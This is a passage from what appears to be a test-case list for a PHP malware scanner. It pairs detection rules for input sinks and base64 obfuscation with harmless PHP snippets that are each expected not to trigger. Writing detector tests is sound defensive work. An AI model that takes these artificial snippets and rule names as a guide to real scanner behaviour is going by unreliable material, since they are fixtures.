        plain("<?php\n$items = array_map(function($v) { return trim($v); }, $_POST['items']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        padded("<?php\n$items = array_map(function($v) { return trim($v); }, $_POST['items']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        embedded("<?php\n$items = array_map(function($v) { return trim($v); }, $_POST['items']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        plain("<?php\n$args = array_map(function($a) { return escapeshellarg($a); }, $_POST['args']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        padded("<?php\n$args = array_map(function($a) { return escapeshellarg($a); }, $_POST['args']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        embedded("<?php\n$args = array_map(function($a) { return escapeshellarg($a); }, $_POST['args']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        plain("<?php\nfunction h($s) { return htmlspecialchars($s, ENT_QUOTES); }\necho h($_GET['q']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        padded("<?php\nfunction h($s) { return htmlspecialchars($s, ENT_QUOTES); }\necho h($_GET['q']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        embedded("<?php\nfunction h($s) { return htmlspecialchars($s, ENT_QUOTES); }\necho h($_GET['q']);\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        plain("<?php\nfunction uptime_of($c) { return shell_exec($c); }\necho uptime_of('uptime');\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        padded("<?php\nfunction uptime_of($c) { return shell_exec($c); }\necho uptime_of('uptime');\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        embedded("<?php\nfunction uptime_of($c) { return shell_exec($c); }\necho uptime_of('uptime');\n"),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        plain(
            "<?php\n$debug = isset($_GET['debug']);\nisset($opts['log']) && error_log($opts['log']);\n$ok && evaluate($rules['a']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        padded(
            "<?php\n$debug = isset($_GET['debug']);\nisset($opts['log']) && error_log($opts['log']);\n$ok && evaluate($rules['a']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        embedded(
            "<?php\n$debug = isset($_GET['debug']);\nisset($opts['log']) && error_log($opts['log']);\n$ok && evaluate($rules['a']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        plain("<?php\n$label = base64_decode('c3lzdGVtX2luZm8=');\necho $label;\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        padded("<?php\n$label = base64_decode('c3lzdGVtX2luZm8=');\necho $label;\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        embedded("<?php\n$label = base64_decode('c3lzdGVtX2luZm8=');\necho $label;\n"),
        False,
    ),
]
